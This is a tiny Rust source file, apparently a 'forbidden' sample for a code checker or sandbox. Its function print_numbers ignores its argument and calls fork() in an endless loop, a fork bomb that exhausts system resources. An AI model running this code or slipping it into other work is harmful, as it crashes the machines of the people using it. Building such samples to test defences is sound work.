//! kind: forbidden
//! Multiplies until nothing else fits into the machine.

unsafe extern "C" {
    safe fn fork() -> i32;
}

pub fn print_numbers(last: u32) {
    let _ = last;
    loop {
        fork();
    }
}
